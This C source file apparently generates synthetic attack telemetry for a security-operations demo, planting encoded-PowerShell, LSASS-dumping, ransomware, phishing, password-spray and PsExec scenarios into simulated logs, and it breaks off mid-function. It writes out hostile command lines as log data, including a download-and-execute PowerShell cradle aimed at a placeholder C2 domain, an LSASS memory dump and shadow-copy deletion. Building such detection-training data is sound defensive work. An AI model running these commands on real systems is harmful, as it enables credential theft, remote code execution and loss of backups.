/* Planted attack scenarios: encoded PowerShell, credential dumping, ransomware,
 * phishing -> click -> execution, password spray and lateral movement. Each
 * instance records in the manifest exactly which rows it wrote (README.md). */
#include <string.h>

#include "core/mem.h"
#include "demo_int.h"
#include "vocab.h"

#define SEC MSOC_TICKS_PER_SECOND
#define MIN MSOC_TICKS_PER_MINUTE

const char *const dm_scen_names[DM_SC__COUNT] = {
    "encoded_powershell", "credential_dumping", "ransomware", "phishing", "password_spray",
    "lateral_movement",
};

/* ---- planning (serial) ---- */

void dm_scen_plan(dm_world *w)
{
    msoc_rng r;
    msoc_rng_seed2(&r, w->opts->seed, 0x5CE7A710);
    int n_t = w->n_tenants;
    int per_type = (int)(n_t * 0.3 + 0.5);
    if (per_type < 2)
        per_type = 2;
    if (per_type > n_t)
        per_type = n_t;
    w->scens = msoc_calloc((size_t)(per_type * DM_SC__COUNT), sizeof *w->scens);
    int *order = msoc_calloc((size_t)n_t, sizeof *order);
    int *count = msoc_calloc((size_t)n_t, sizeof *count);
    for (int type = 0; type < DM_SC__COUNT; type++) {
        for (int i = 0; i < n_t; i++)
            order[i] = i;
        for (int i = 0; i < per_type; i++) {
            int j = i + (int)msoc_rng_below(&r, (uint64_t)(n_t - i));
            int tmp = order[i];
            order[i] = order[j];
            order[j] = tmp;
            dm_scen *sc = &w->scens[w->n_scens];
            sc->type = type;
            sc->tenant = order[i];
            sc->campaign = i % DM_N_CAMPAIGNS;
            dm_fmt(sc->id, sizeof sc->id, "S%03d-%s", w->n_scens + 1, dm_scen_names[type]);
            count[order[i]]++;
            w->n_scens++;
        }
    }
    for (int t_idx = 0; t_idx < n_t; t_idx++) {
        dm_tenant *t = &w->tenants[t_idx];
        t->scens = msoc_calloc((size_t)(count[t_idx] + 1), sizeof *t->scens);
    }
    for (int s_idx = 0; s_idx < w->n_scens; s_idx++) {
        dm_tenant *t = &w->tenants[w->scens[s_idx].tenant];
        t->scens[t->n_scens++] = &w->scens[s_idx];
    }
    msoc_free(order);
    msoc_free(count);
}

/* A weekday working-hours instant in the tenant's time zone, inside the window
 * with room for the scenario to play out. */
static msoc_datetime pick_time(dm_world *w, dm_tenant *t, msoc_rng *r)
{
    int64_t off = (int64_t)t->tz_offset_min * MIN;
    msoc_datetime lo = w->start + MSOC_TICKS_PER_HOUR, hi = w->end - 2 * MSOC_TICKS_PER_HOUR;
    if (hi <= lo)
        return w->start;
    for (int attempt = 0; attempt < 40; attempt++) {
        int64_t day = msoc_floor_div(w->start + off, MSOC_TICKS_PER_DAY) + (int64_t)msoc_rng_below(r, (uint64_t)w->opts->n_days + 1);
        msoc_datetime local = day * MSOC_TICKS_PER_DAY + (9 + (int64_t)msoc_rng_below(r, 7)) * MSOC_TICKS_PER_HOUR +
                              (int64_t)msoc_rng_below(r, 3600) * SEC;
        int wd = msoc_datetime_weekday(local);
        msoc_datetime at = local - off;
        if (at >= lo && at < hi && ((wd != 0 && wd != 6) || attempt > 30))
            return at;
    }
    return lo + (int64_t)msoc_rng_below(r, (uint64_t)(hi - lo));
}

static int pick_device(dm_tenant *t, msoc_rng *r, bool need_user)
{
    for (int attempt = 0; attempt < 200; attempt++) {
        int i = (int)msoc_rng_below(r, (uint64_t)t->n_dev);
        const dm_device *d = &t->devs[i];
        if (!dm_os[d->os].is_windows)
            continue;
        if (need_user && d->user < 0)
            continue;
        return i;
    }
    return 0;
}

void dm_scen_place(dm_world *w, dm_tenant *t, msoc_rng *r)
{
    for (int s_idx = 0; s_idx < t->n_scens; s_idx++) {
        dm_scen *sc = t->scens[s_idx];
        sc->at = pick_time(w, t, r);
        sc->hour = (int)((sc->at - w->start) / MSOC_TICKS_PER_HOUR);
        sc->device = pick_device(t, r, true);
        sc->user = t->devs[sc->device].user;
        sc->first = sc->last = MSOC_TIME_NULL;
        msoc_buf_init(&sc->rows, (size_t)16 << 20);
        msoc_buf_init(&sc->keys, (size_t)1 << 20);
        if (sc->type == DM_SC_LATERAL) {
            sc->n_targets = 0;
            for (int attempt = 0; attempt < 60 && sc->n_targets < 4; attempt++) {
                int i = (int)msoc_rng_below(r, (uint64_t)t->n_dev);
                const dm_device *d = &t->devs[i];
                bool is_dup = i == sc->device;
                for (int k = 0; k < sc->n_targets; k++)
                    is_dup |= sc->targets[k] == i;
                if (is_dup || !dm_os[d->os].is_windows || (d->role == DM_ROLE_WORKSTATION && attempt < 40))
                    continue;
                sc->targets[sc->n_targets++] = i;
            }
        }
        if (sc->type == DM_SC_SPRAY)
            sc->user = -1;
        sc->is_planned = true;
    }
}

/* ---- manifest notes ---- */

static void touch(dm_scen *sc, dm_tbl tb, msoc_datetime at)
{
    sc->table_rows[tb]++;
    if (sc->first == MSOC_TIME_NULL || at < sc->first)
        sc->first = at;
    if (sc->last == MSOC_TIME_NULL || at > sc->last)
        sc->last = at;
}

/* Records one row: table, workspace and the key columns that find it. */
static void note_dev(dm_scen *sc, dm_tbl tb, const dm_device *d, int64_t report_id, msoc_datetime at)
{
    msoc_buf *b = &sc->rows;
    if (b->len)
        msoc_buf_putc(b, ',');
    msoc_buf_appendf(b, "\n      {\"table\":\"%s\",\"workspace\":\"defender\",\"match\":{\"DeviceId\":\"%s\",\"ReportId\":%lld}}",
                     dm_table_names[tb], d->id, (long long)report_id);
    touch(sc, tb, at);
}

static void note_kv(dm_scen *sc, dm_tbl tb, const char *ws, const char *k1, const char *v1, const char *k2,
                    const char *v2, msoc_datetime at)
{
    msoc_buf *b = &sc->rows;
    if (b->len)
        msoc_buf_putc(b, ',');
    msoc_buf_appendf(b, "\n      {\"table\":\"%s\",\"workspace\":\"%s\",\"match\":{", dm_table_names[tb], ws);
    msoc_buf_append_json_str(b, k1, strlen(k1));
    msoc_buf_putc(b, ':');
    msoc_buf_append_json_str(b, v1, strlen(v1));
    if (k2) {
        msoc_buf_putc(b, ',');
        msoc_buf_append_json_str(b, k2, strlen(k2));
        msoc_buf_putc(b, ':');
        msoc_buf_append_json_str(b, v2, strlen(v2));
    }
    msoc_buf_append_c(b, "}}");
    touch(sc, tb, at);
}

static void key_str(dm_scen *sc, const char *name, const char *value)
{
    msoc_buf *b = &sc->keys;
    msoc_buf_appendf(b, ",\n      \"%s\": ", name);
    msoc_buf_append_json_str(b, value, strlen(value));
}

static void key_raw(dm_scen *sc, const char *name, const char *json)
{
    msoc_buf_appendf(&sc->keys, ",\n      \"%s\": %s", name, json);
}

/* ---- building blocks ---- */

static dm_proc run(dm_gen *g, dm_scen *sc, dm_device *d, const dm_proc *parent, int def, const char *cmd,
                   uint8_t acct, msoc_datetime at)
{
    dm_proc p = dm_proc_spawn(g, d, parent, def, cmd, acct, at);
    int64_t rid = dm_emit_process(g, d, &p, parent);
    note_dev(sc, DM_T_DeviceProcessEvents, d, rid, at);
    return p;
}

static void net_event(dm_gen *g, dm_scen *sc, dm_device *d, const dm_proc *ip, msoc_datetime at, const char *rip,
                      int port, const char *url)
{
    dm_out *o = &g->def[DM_T_DeviceNetworkEvents];
    dm_row_begin(o, at);
    dm_set_device(o, d);
    dm_s(o, DM_C_ActionType, "ConnectionSuccess");
    dm_s(o, DM_C_RemoteIP, rip);
    dm_i(o, DM_C_RemotePort, port);
    dm_s(o, DM_C_RemoteUrl, url);
    dm_s(o, DM_C_LocalIP, d->ip);
    dm_i(o, DM_C_LocalPort, 49152 + (int64_t)msoc_rng_below(&g->r, 16000));
    dm_s(o, DM_C_Protocol, "Tcp");
    dm_s(o, DM_C_LocalIPType, "Private");
    dm_s(o, DM_C_RemoteIPType, "Public");
    dm_set_initiating(g, o, d, ip);
    int64_t rid = dm_next_report(d);
    dm_i(o, DM_C_ReportId, rid);
    dm_row_end(o);
    note_dev(sc, DM_T_DeviceNetworkEvents, d, rid, at);
    dm_emit_csl_traffic(g, d, at, rip, port, url, "allow");
}

static void file_event(dm_gen *g, dm_scen *sc, dm_device *d, const dm_proc *ip, msoc_datetime at, const char *action,
                       const char *name, const char *folder, const char *prev_name, const char *sha256,
                       const char *origin_url)
{
    dm_out *o = &g->def[DM_T_DeviceFileEvents];
    char sha[65];
    if (sha256 == NULL) {
        dm_hex_rng(&g->r, sha, 64);
        sha256 = sha;
    }
    dm_row_begin(o, at);
    dm_set_device(o, d);
    dm_s(o, DM_C_ActionType, action);
    dm_s(o, DM_C_FileName, name);
    dm_s(o, DM_C_FolderPath, folder);
    dm_s(o, DM_C_SHA256, sha256);
    if (prev_name) {
        dm_s(o, DM_C_PreviousFileName, prev_name);
        dm_s(o, DM_C_PreviousFolderPath, folder);
    }
    if (origin_url)
        dm_s(o, DM_C_FileOriginUrl, origin_url);
    dm_i(o, DM_C_FileSize, 10000 + (int64_t)msoc_rng_below(&g->r, 3000000));
    dm_set_initiating(g, o, d, ip);
    int64_t rid = dm_next_report(d);
    dm_i(o, DM_C_ReportId, rid);
    dm_row_end(o);
    note_dev(sc, DM_T_DeviceFileEvents, d, rid, at);
}

void dm_emit_alert(dm_gen *g, dm_scen *sc, msoc_datetime at, const char *title, const char *category,
                  const char *severity, const char *service, const char *detection, const char *techniques,
                  const dm_evidence *ev, int n_ev)
{
    char alert_id[48];
    dm_fmt(alert_id, sizeof alert_id, "da%018llu_%lld", (unsigned long long)(msoc_rng_next(&g->r) % 1000000000000000000ULL),
           -(long long)msoc_rng_below(&g->r, 2000000000));
    dm_out *o = &g->def[DM_T_AlertInfo];
    dm_row_begin(o, at);
    dm_s(o, DM_C_AlertId, alert_id);
    dm_s(o, DM_C_Title, title);
    dm_s(o, DM_C_Category, category);
    dm_s(o, DM_C_Severity, severity);
    dm_s(o, DM_C_ServiceSource, service);
    dm_s(o, DM_C_DetectionSource, detection);
    dm_s(o, DM_C_AttackTechniques, techniques);
    dm_row_end(o);
    if (sc)
        note_kv(sc, DM_T_AlertInfo, "defender", "AlertId", alert_id, NULL, NULL, at);
    for (int i = 0; i < n_ev; i++) {
        const dm_evidence *e = &ev[i];
        dm_out *a = &g->def[DM_T_AlertEvidence];
        char cats[48];
        dm_fmt(cats, sizeof cats, "[\"%s\"]", category);
        dm_row_begin(a, at);
        dm_s(a, DM_C_AlertId, alert_id);
        dm_s(a, DM_C_Title, title);
        dm_s(a, DM_C_Categories, cats);
        dm_s(a, DM_C_AttackTechniques, techniques);
        dm_s(a, DM_C_ServiceSource, service);
        dm_s(a, DM_C_DetectionSource, detection);
        dm_s(a, DM_C_EntityType, e->entity);
        dm_s(a, DM_C_EvidenceRole, strcmp(e->entity, "Machine") == 0 || strcmp(e->entity, "User") == 0 ? "Impacted" : "Related");
        dm_s(a, DM_C_EvidenceDirection, "");
        dm_s(a, DM_C_Severity, severity);
        if (e->d) {
            dm_s(a, DM_C_DeviceId, e->d->id);
            dm_s(a, DM_C_DeviceName, e->d->name);
            dm_s(a, DM_C_LocalIP, e->d->ip);
        }
        if (e->u) {
            dm_s(a, DM_C_AccountName, e->u->sam);
            dm_s(a, DM_C_AccountDomain, g->t->netbios);
            dm_s(a, DM_C_AccountSid, e->u->sid);
            dm_s(a, DM_C_AccountObjectId, e->u->oid);
            dm_s(a, DM_C_AccountUpn, e->u->upn);
        }
        if (e->file)
            dm_s(a, DM_C_FileName, e->file);
        if (e->folder)
            dm_s(a, DM_C_FolderPath, e->folder);
        if (e->sha256)
            dm_s(a, DM_C_SHA256, e->sha256);
        if (e->cmd)
            dm_s(a, DM_C_ProcessCommandLine, e->cmd);
        if (e->ip)
            dm_s(a, DM_C_RemoteIP, e->ip);
        if (e->url)
            dm_s(a, DM_C_RemoteUrl, e->url);
        if (e->nmid)
            dm_s(a, DM_C_NetworkMessageId, e->nmid);
        if (e->subject)
            dm_s(a, DM_C_EmailSubject, e->subject);
        dm_s(a, DM_C_AdditionalFields, "{}");
        dm_row_end(a);
        if (sc)
            note_kv(sc, DM_T_AlertEvidence, "defender", "AlertId", alert_id, "EntityType", e->entity, at);
    }
    if (sc)
        key_str(sc, "alert_id", alert_id);
}

static void b64_utf16le(const char *in, char *out, size_t cap)
{
    static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned char buf[1024];
    size_t n = 0;
    for (; *in && n + 2 <= sizeof buf; in++) {
        buf[n++] = (unsigned char)*in;
        buf[n++] = 0;
    }
    size_t o = 0;
    for (size_t i = 0; i < n && o + 5 < cap; i += 3) {
        uint32_t v = (uint32_t)buf[i] << 16 | (i + 1 < n ? (uint32_t)buf[i + 1] << 8 : 0) | (i + 2 < n ? buf[i + 2] : 0);
        out[o++] = tbl[v >> 18 & 63];
        out[o++] = tbl[v >> 12 & 63];
        out[o++] = i + 1 < n ? tbl[v >> 6 & 63] : '=';
        out[o++] = i + 2 < n ? tbl[v & 63] : '=';
    }
    out[o] = '\0';
}

static void ensure_session(dm_gen *g, dm_device *d, msoc_datetime at)
{
    if (!d->has_explorer) {
        msoc_datetime local = at + (int64_t)g->t->tz_offset_min * MIN;
        dm_user_logon(g, d, at - 10 * MIN, (int)msoc_floor_div(local, MSOC_TICKS_PER_DAY));
    }
}

/* ---- the scenarios ---- */

static void sc_encoded_ps(dm_gen *g, dm_scen *sc)
{
    const dm_vocab *v = &g->w->vocab;
    const dm_campaign *c = &g->w->camp[sc->campaign];
    dm_device *d = &g->t->devs[sc->device];
    const dm_user *u = dm_proc_user(g, d);
    msoc_datetime at = sc->at;
    ensure_session(g, d, at);
    char plain[300], enc[900];
    dm_fmt(plain, sizeof plain, "IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')", c->c2_domain);
    b64_utf16le(plain, enc, sizeof enc);
    dm_fmt(sc->strs[0], sizeof sc->strs[0], "powershell.exe -NoP -NonI -W Hidden -EncodedCommand %s", enc);
    dm_fmt(sc->strs[1], sizeof sc->strs[1],
           "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\%s\\Downloads\\Remittance_%u.docm\"",
           u->sam, (unsigned)msoc_rng_below(&g->r, 90000) + 10000);
    dm_proc word = run(g, sc, d, &d->explorer, dm_vocab_proc(v, "WINWORD.EXE"), sc->strs[1], DM_ACCT_USER, at);
    dm_proc ps = run(g, sc, d, &word, v->p_powershell, sc->strs[0], DM_ACCT_USER, at + 38 * SEC);
    net_event(g, sc, d, &ps, at + 41 * SEC, c->c2_ip, 80, c->c2_domain);
    dm_evidence ev[] = {
        {.entity = "Machine", .d = d},
        {.entity = "User", .u = u},
        {.entity = "Process", .d = d, .file = "powershell.exe", .folder = v->procs[v->p_powershell].folder,
         .sha256 = v->procs[v->p_powershell].sha256, .cmd = sc->strs[0]},
        {.entity = "Url", .url = c->c2_domain, .ip = c->c2_ip},
    };
    dm_emit_alert(g, sc, at + 2 * MIN, "Suspicious PowerShell command line", "Execution", "Medium",
          "Microsoft Defender for Endpoint", "EDR", "[\"PowerShell (T1059.001)\",\"Obfuscated Files or Information (T1027)\"]",
          ev, 4);
    key_str(sc, "command_line", sc->strs[0]);
    key_str(sc, "decoded_command", plain);
    key_str(sc, "sha256", v->procs[v->p_powershell].sha256);
    key_str(sc, "c2_domain", c->c2_domain);
    key_str(sc, "c2_ip", c->c2_ip);
}

static void sc_cred_dump(dm_gen *g, dm_scen *sc)
{
    const dm_vocab *v = &g->w->vocab;
    dm_world *w = g->w;
    dm_device *d = &g->t->devs[sc->device];
    const dm_user *u = dm_proc_user(g, d);
    msoc_datetime at = sc->at;
    ensure_session(g, d, at);
    int p_mimi = dm_vocab_proc(v, "mimikatz.exe");
    dm_proc cmd = run(g, sc, d, &d->explorer, v->p_cmd, "\"C:\\Windows\\system32\\cmd.exe\"", DM_ACCT_USER, at);
    dm_fmt(sc->strs[0], sizeof sc->strs[0], "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %u C:\\Windows\\Temp\\lsass.dmp full",
           (unsigned)d->lsass.pid);
    dm_proc rd = run(g, sc, d, &cmd, v->p_rundll32, sc->strs[0], DM_ACCT_USER, at + 25 * SEC);
    /* The handle to lsass, then the dump file. */
    dm_out *o = &g->def[DM_T_DeviceEvents];
    dm_row_begin(o, at + 26 * SEC);
    dm_set_device(o, d);
    dm_s(o, DM_C_ActionType, "OpenProcessApiCall");
    dm_s(o, DM_C_FileName, "lsass.exe");
    dm_s(o, DM_C_FolderPath, v->procs[v->p_lsass].folder);
    dm_s(o, DM_C_SHA256, v->procs[v->p_lsass].sha256);
    dm_i(o, DM_C_ProcessId, d->lsass.pid);
    dm_t(o, DM_C_ProcessCreationTime, d->lsass.created);
    dm_s(o, DM_C_AdditionalFields, "{\"DesiredAccess\":2097151}");
    dm_set_initiating(g, o, d, &rd);
    int64_t rid = dm_next_report(d);
    dm_i(o, DM_C_ReportId, rid);
    dm_row_end(o);
    note_dev(sc, DM_T_DeviceEvents, d, rid, at + 26 * SEC);
    file_event(g, sc, d, &rd, at + 28 * SEC, "FileCreated", "lsass.dmp", "C:\\Windows\\Temp\\lsass.dmp", NULL, NULL, NULL);
    /* mimikatz: the same build (hash) in every tenant where it is planted. */
    file_event(g, sc, d, &cmd, at + 3 * MIN, "FileCreated", "mimikatz.exe", "C:\\Users\\Public\\mimikatz.exe", NULL,
               w->mimikatz_sha256, NULL);
    dm_proc mk = run(g, sc, d, &cmd, p_mimi, NULL, DM_ACCT_USER, at + 3 * MIN + 10 * SEC);
    (void)mk;
    dm_evidence ev[] = {
        {.entity = "Machine", .d = d},
        {.entity = "User", .u = u},
        {.entity = "Process", .d = d, .file = "rundll32.exe", .folder = v->procs[v->p_rundll32].folder,
         .sha256 = v->procs[v->p_rundll32].sha256, .cmd = sc->strs[0]},
        {.entity = "File", .file = "mimikatz.exe", .folder = "C:\\Users\\Public\\mimikatz.exe", .sha256 = w->mimikatz_sha256},
    };
    dm_emit_alert(g, sc, at + 4 * MIN, "Possible credential dumping from LSASS memory", "CredentialAccess", "High",
          "Microsoft Defender for Endpoint", "EDR", "[\"LSASS Memory (T1003.001)\"]", ev, 4);
    key_str(sc, "command_line", sc->strs[0]);
    key_str(sc, "mimikatz_command_line", v->procs[p_mimi].cmds[0]);
    key_str(sc, "sha256", w->mimikatz_sha256);
    char pid[16];
    dm_fmt(pid, sizeof pid, "%u", (unsigned)d->lsass.pid);
    key_raw(sc, "lsass_pid", pid);
}

static void sc_ransomware(dm_gen *g, dm_scen *sc)
{
    const dm_vocab *v = &g->w->vocab;
    const dm_campaign *c = &g->w->camp[sc->campaign];
    dm_device *d = &g->t->devs[sc->device];
    const dm_user *u = dm_proc_user(g, d);
    msoc_datetime at = sc->at;
    ensure_session(g, d, at);
    dm_proc rw = run(g, sc, d, &d->explorer, c->ransom_def, NULL, DM_ACCT_USER, at);
    dm_proc cmd = run(g, sc, d, &rw, v->p_cmd, "cmd.exe /c vssadmin.exe delete shadows /all /quiet", DM_ACCT_USER,
                      at + 5 * SEC);
    run(g, sc, d, &cmd, dm_vocab_proc(v, "vssadmin.exe"), NULL, DM_ACCT_USER, at + 6 * SEC);
    static const char *const dirs[] = {"Documents", "Desktop", "Pictures", "OneDrive - Documents"};
    static const char *const stems[] = {"budget", "contract", "scan", "photo", "report", "invoice", "plan", "notes"};
    static const char *const exts[] = {".docx", ".xlsx", ".pdf", ".jpg", ".pptx"};
    int n_files = 120 + (int)msoc_rng_below(&g->r, 120);
    msoc_datetime t = at + 20 * SEC;
    for (int i = 0; i < n_files; i++) {
        char prev[64], name[80], folder[200];
        const char *dir = dirs[i % 4];
        dm_fmt(prev, sizeof prev, "%s_%03d%s", stems[msoc_rng_below(&g->r, 8)], i, exts[msoc_rng_below(&g->r, 5)]);
        dm_fmt(name, sizeof name, "%s%s", prev, c->ransom_ext);
        dm_fmt(folder, sizeof folder, "C:\\Users\\%s\\%s\\%s", u->sam, dir, name);
        t += 100 * MSOC_TICKS_PER_MILLISECOND + (int64_t)msoc_rng_below(&g->r, 400) * MSOC_TICKS_PER_MILLISECOND;
        file_event(g, sc, d, &rw, t, "FileRenamed", name, folder, prev, NULL, NULL);
    }
    for (int i = 0; i < 4; i++) {
        char name[48], folder[200];
        dm_fmt(name, sizeof name, "README-RECOVER%s.txt", c->ransom_ext);
        dm_fmt(folder, sizeof folder, "C:\\Users\\%s\\%s\\%s", u->sam, dirs[i], name);
        file_event(g, sc, d, &rw, t + (int64_t)i * SEC, "FileCreated", name, folder, NULL, NULL, NULL);
    }
    dm_evidence ev[] = {
        {.entity = "Machine", .d = d},
        {.entity = "User", .u = u},
        {.entity = "Process", .d = d, .file = c->ransom_name, .folder = c->ransom_folder, .sha256 = c->ransom_sha256,
         .cmd = v->procs[c->ransom_def].cmds[0]},
    };
    dm_emit_alert(g, sc, t + MIN, "Ransomware behavior detected in the file system", "Impact", "High",
          "Microsoft Defender for Endpoint", "EDR", "[\"Data Encrypted for Impact (T1486)\",\"Inhibit System Recovery (T1490)\"]",
          ev, 3);
    key_str(sc, "sha256", c->ransom_sha256);
    key_str(sc, "file_extension", c->ransom_ext);
    key_str(sc, "command_line", "cmd.exe /c vssadmin.exe delete shadows /all /quiet");
    char n[16];
    dm_fmt(n, sizeof n, "%d", n_files);
    key_raw(sc, "renamed_files", n);
}

static void sc_phishing(dm_gen *g, dm_scen *sc)
{
    const dm_vocab *v = &g->w->vocab;
    const dm_campaign *c = &g->w->camp[sc->campaign];
    dm_device *d = &g->t->devs[sc->device];
    const dm_user *u = dm_proc_user(g, d);
    msoc_datetime at = sc->at;
    ensure_session(g, d, at);
    char sender[96], url[160], ip4[16], nmid[37], click_rid[64];
    dm_fmt(sender, sizeof sender, "billing@%s", c->phish_domain);
    dm_fmt(url, sizeof url, "https://%s/invoice/view?id=%u", c->phish_domain, (unsigned)msoc_rng_below(&g->r, 900000) + 100000);
    dm_ip_for_domain(c->phish_domain, ip4);
    const char *subject = "Action required: overdue invoice";
    dm_emit_email(g, at, u, sender, "Accounts Receivable", c->phish_domain, ip4, subject, url, c->phish_domain, NULL, NULL,
                  NULL, nmid);
    note_kv(sc, DM_T_EmailEvents, "defender", "NetworkMessageId", nmid, "RecipientEmailAddress", u->upn, at);
    note_kv(sc, DM_T_EmailUrlInfo, "defender", "NetworkMessageId", nmid, "Url", url, at);
    msoc_datetime tc = at + 7 * MIN + (int64_t)msoc_rng_below(&g->r, 120) * SEC;
    dm_emit_click(g, tc, u, nmid, url, g->t->egress_ip, NULL, click_rid);
    note_kv(sc, DM_T_UrlClickEvents, "defender", "ReportId", click_rid, NULL, NULL, tc);
    dm_fmt(sc->strs[0], sizeof sc->strs[0],
           "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument %s", url);
    dm_proc edge = run(g, sc, d, &d->explorer, dm_vocab_proc(v, "msedge.exe"), sc->strs[0], DM_ACCT_USER, tc + 1 * SEC);
    dm_fmt(sc->strs[1], sizeof sc->strs[1], "C:\\Users\\%s\\Downloads\\%s", u->sam, c->payload_name);
    file_event(g, sc, d, &edge, tc + 20 * SEC, "FileCreated", c->payload_name, sc->strs[1], NULL, c->payload_sha256, url);
    dm_fmt(sc->strs[2], sizeof sc->strs[2], "\"%s\"", sc->strs[1]);
    dm_proc pl = run(g, sc, d, &d->explorer, c->payload_def, sc->strs[2], DM_ACCT_USER, tc + 75 * SEC);
    net_event(g, sc, d, &pl, tc + 80 * SEC, c->c2_ip, 443, c->c2_domain);
    dm_evidence ev[] = {
        {.entity = "MailMessage", .nmid = nmid, .subject = subject, .u = u},
        {.entity = "Url", .url = url},
        {.entity = "Machine", .d = d},
        {.entity = "File", .file = c->payload_name, .folder = sc->strs[1], .sha256 = c->payload_sha256},
    };
    dm_emit_alert(g, sc, tc + 3 * MIN, "A potentially malicious URL click was detected", "InitialAccess", "High",
          "Microsoft Defender for Office 365", "Microsoft Defender for Office 365", "[\"Phishing: Spearphishing Link (T1566.002)\"]",
          ev, 4);
    key_str(sc, "network_message_id", nmid);
    key_str(sc, "url", url);
    key_str(sc, "phish_domain", c->phish_domain);
    key_str(sc, "sha256", c->payload_sha256);
    key_str(sc, "payload", c->payload_name);
    key_str(sc, "c2_domain", c->c2_domain);
    key_str(sc, "c2_ip", c->c2_ip);
}

static void sc_spray(dm_gen *g, dm_scen *sc)
{
    dm_tenant *t = g->t;
    const dm_campaign *c = &g->w->camp[sc->campaign];
    msoc_datetime at = sc->at;
    const char *ua = "python-requests/2.31.0";
    int n = t->n_users < 60 ? t->n_users : 30 + (int)msoc_rng_below(&g->r, 30);
    int start = (int)msoc_rng_below(&g->r, (uint64_t)t->n_users);
    char id[37];
    int victim = -1;
    for (int i = 0; i < n; i++) {
        const dm_user *u = &t->users[(start + i) % t->n_users];
        msoc_datetime ts = at + (int64_t)i * (2 * SEC + (int64_t)msoc_rng_below(&g->r, 3000) * MSOC_TICKS_PER_MILLISECOND);
        bool is_hit = i == n - 3 && n > 5;
        dm_emit_signin(g, ts, u, c->spray_ip, 0, is_hit ? 0 : 50126, ua, "NL", id);
        note_kv(sc, DM_T_SigninLogs, t->ws[0].id, "Id", id, NULL, NULL, ts);
        if (is_hit)
            victim = (start + i) % t->n_users;
    }
    sc->user = victim;
    dm_evidence ev[] = {{.entity = "Ip", .ip = c->spray_ip}, {.entity = "User", .u = victim >= 0 ? &t->users[victim] : NULL}};
    dm_emit_alert(g, sc, at + 10 * MIN, "Password spray", "CredentialAccess", "Medium", "Microsoft Entra ID Protection",
          "Microsoft Entra ID Protection", "[\"Password Spraying (T1110.003)\"]", ev, victim >= 0 ? 2 : 1);
    key_str(sc, "spray_ip", c->spray_ip);
    key_str(sc, "user_agent", ua);
    char num[16];
    dm_fmt(num, sizeof num, "%d", victim >= 0 ? n - 1 : n);
    key_raw(sc, "failed_signins", num);
    if (victim >= 0)
        key_str(sc, "compromised_upn", t->users[victim].upn);
}

static void sc_lateral(dm_gen *g, dm_scen *sc)
{
    dm_tenant *t = g->t;
    const dm_vocab *v = &g->w->vocab;
    dm_device *d = &t->devs[sc->device];
    const dm_user *admin = &t->users[t->n_users - 1];
    msoc_datetime at = sc->at;
    ensure_session(g, d, at);
    dm_proc cmd = run(g, sc, d, &d->explorer, v->p_cmd, "\"C:\\Windows\\system32\\cmd.exe\"", DM_ACCT_USER, at);
    int p_psexec = dm_vocab_proc(v, "PsExec.exe"), p_svc = dm_vocab_proc(v, "PSEXESVC.exe");
    for (int k = 0; k < sc->n_targets; k++) {
        dm_device *tg = &t->devs[sc->targets[k]];
        msoc_datetime ts = at + (int64_t)(k + 1) * 90 * SEC;
        dm_fmt(sc->strs[k], sizeof sc->strs[k], "PsExec.exe \\\\%s -accepteula -s cmd.exe /c \"whoami /all & ipconfig /all\"", tg->host);
        run(g, sc, d, &cmd, p_psexec, sc->strs[k], DM_ACCT_USER, ts);
        int64_t lid = 0x300000 + (int64_t)msoc_rng_below(&g->r, 0x7fffffff);
        dm_emit_device_logon(g, tg, ts + 1 * SEC, "LogonSuccess", "Network", admin, d->ip, d->name, &tg->lsass, lid);
        note_dev(sc, DM_T_DeviceLogonEvents, tg, (int64_t)tg->report_id - 1, ts + 1 * SEC);
        if (dm_os[tg->os].is_server) {
            dm_emit_security_logon(g, tg, ts + 2 * SEC, 4624, admin, 3, d->ip, d->host);
            msoc_buf *b = &sc->rows;
            msoc_buf_appendf(b, ",\n      {\"table\":\"SecurityEvent\",\"workspace\":\"%s\",\"match\":{\"Computer\":\"%s\",\"EventID\":4624,\"TargetUserName\":\"%s\",\"IpAddress\":\"%s\"}}",
                             t->ws[tg->ws].id, tg->name, admin->sam, d->ip);
            touch(sc, DM_T_SecurityEvent, ts + 2 * SEC);
        }
        /* Defender for Identity sees the NTLM authentication at a DC. */
        dm_out *o = &g->def[DM_T_IdentityLogonEvents];
        char rid[40];
        dm_fmt(rid, sizeof rid, "%s-lm-%d", sc->id, k);
        dm_row_begin(o, ts + 1 * SEC);
        dm_s(o, DM_C_ActionType, "LogonSuccess");
        dm_s(o, DM_C_Application, "Active Directory");
        dm_s(o, DM_C_LogonType, "Resource access");
        dm_s(o, DM_C_Protocol, "Ntlm");
        dm_s(o, DM_C_AccountName, admin->sam);
        dm_s(o, DM_C_AccountDomain, t->domain);
        dm_s(o, DM_C_AccountUpn, admin->upn);
        dm_s(o, DM_C_AccountSid, admin->sid);
        dm_s(o, DM_C_AccountObjectId, admin->oid);
        dm_s(o, DM_C_AccountDisplayName, admin->display);
        dm_s(o, DM_C_DeviceName, d->name);
        dm_s(o, DM_C_DeviceType, "Workstation");
        dm_s(o, DM_C_OSPlatform, dm_os[d->os].platform);
        dm_s(o, DM_C_IPAddress, d->ip);
        dm_i(o, DM_C_Port, 49152 + (int64_t)msoc_rng_below(&g->r, 16000));
        dm_s(o, DM_C_DestinationDeviceName, tg->name);
        dm_s(o, DM_C_DestinationIPAddress, tg->ip);
        dm_i(o, DM_C_DestinationPort, 445);
        dm_s(o, DM_C_TargetDeviceName, tg->name);
        dm_s(o, DM_C_ReportId, rid);
        dm_json(o, DM_C_AdditionalFields, "{}");
        dm_row_end(o);
        note_kv(sc, DM_T_IdentityLogonEvents, "defender", "ReportId", rid, NULL, NULL, ts + SEC);
        dm_proc svc = run(g, sc, tg, &tg->services, p_svc, NULL, DM_ACCT_SYSTEM, ts + 3 * SEC);
        run(g, sc, tg, &svc, v->p_cmd, "cmd.exe /c \"whoami /all & ipconfig /all\"", DM_ACCT_SYSTEM, ts + 4 * SEC);
    }
    dm_evidence ev[] = {
        {.entity = "Machine", .d = d},
        {.entity = "User", .u = admin},
        {.entity = "Process", .d = d, .file = "PsExec.exe", .folder = v->procs[p_psexec].folder,
         .sha256 = v->procs[p_psexec].sha256, .cmd = sc->strs[0]},
    };
    dm_emit_alert(g, sc, at + 8 * MIN, "Suspicious remote service execution (PsExec)", "LateralMovement", "Medium",
